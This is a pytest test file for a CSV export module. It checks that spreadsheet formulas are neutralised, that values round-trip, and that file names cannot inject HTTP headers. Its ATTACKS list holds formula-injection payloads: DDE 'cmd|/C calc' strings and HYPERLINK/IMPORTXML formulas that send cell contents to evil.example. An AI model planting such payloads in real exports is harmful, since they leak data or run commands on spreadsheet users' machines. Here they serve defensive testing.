"""Tables for spreadsheets: nothing in them runs, and what was written comes out again."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from uuid import UUID

import pytest

from studio.credits import sheets

# Whatever a person or the provider may have written into a name, a prompt or a reason.
ATTACKS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")', "-2+3+cmd|' /C calc'!A0", "+441234567",
    '@SUM(1+1)*cmd|"/C calc"!A0', '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    "＝1+1", "＋1", "－1", "＠SUM(1)",
    "==1", "-", "=", '"=1+1"', "'=1+1", "a;=1+1", "a;\t@SUM(1)", "a\n=1+1", "a\r\n+1", "a;  -1", "a\t＝1",
]  # fmt: skip
STARTS = tuple("=+-@＝＋－＠\t\r\n")


def text_of(*rows, header=("What",)) -> str:
    return b"".join(sheets.answer("table.csv", header, rows)).decode("utf-8-sig")


def read(*rows, header=("What",), delimiter=",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text_of(*rows, header=header), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_begins_with_what_a_spreadsheet_runs(attack):
    (cell,) = read([attack])[1]
    assert not cell.startswith(STARTS)
    (heading,) = read(header=[attack])[0]
    assert not heading.startswith(STARTS)


@pytest.mark.parametrize("delimiter", ";\t")
@pytest.mark.parametrize("attack", ATTACKS)
def test_nor_where_a_spreadsheet_separates_by_something_else(attack, delimiter):
    for line in text_of(["Ann", attack, "x"]).splitlines():
        for cell in line.split(delimiter):
            assert not cell.lstrip().lstrip('"').startswith(STARTS)


@pytest.mark.parametrize(
    "text",
    ["a fox", "Müller & Söhne", 'said "yes"', "a, b; c", "3-4 foxes", "mail@example.com", "画像", "🦊", ""],
)
def test_what_runs_nowhere_stays_as_it_was_written(text):
    assert read([text, "x"])[1] == [text, "x"]


def test_numbers_stay_numbers():
    assert text_of([5, -10, 0, Decimal("0.0450"), Decimal("-1E+3")]).splitlines()[1] == "5,-10,0,0.0450,-1000"


def test_days_and_moments_are_written_as_iso_says_in_the_studios_time_zone(settings):
    settings.TIME_ZONE = "Europe/Berlin"
    row = [date(2026, 3, 1), datetime(2026, 2, 28, 23, 30, 0, 123, tzinfo=UTC), None, UUID(int=7)]
    assert read(row)[1] == [
        "2026-03-01", "2026-03-01T00:30:00+01:00", "", "00000000-0000-0000-0000-000000000007"
    ]  # fmt: skip


def test_excel_is_told_that_it_is_utf_8():
    answer = sheets.answer("a.csv", ["What"], [])
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert b"".join(answer) == b"\xef\xbb\xbfWhat\r\n"


def test_a_long_table_is_sent_while_it_is_read_and_is_whole():
    read_so_far = []

    def rows():
        for number in range(3 * sheets.ROWS_A_CHUNK):
            read_so_far.append(number)
            yield [number]

    chunks = iter(sheets.answer("a.csv", ["n"], rows()))
    first = next(chunks)
    assert len(read_so_far) == sheets.ROWS_A_CHUNK - 1
    lines = (first + b"".join(chunks)).decode("utf-8-sig").split()
    assert lines == ["n", *map(str, range(3 * sheets.ROWS_A_CHUNK))]


@pytest.mark.parametrize("name", ["a.csv", 'a"b\r\nX-Evil: 1.csv', "Müller.csv"])
def test_the_file_has_a_name_and_nothing_gets_past_it_into_the_header(name):
    told = sheets.answer(name, ["What"], [])["Content-Disposition"]
    assert told.startswith("attachment; filename")
    assert "\n" not in told
    assert "\r" not in told
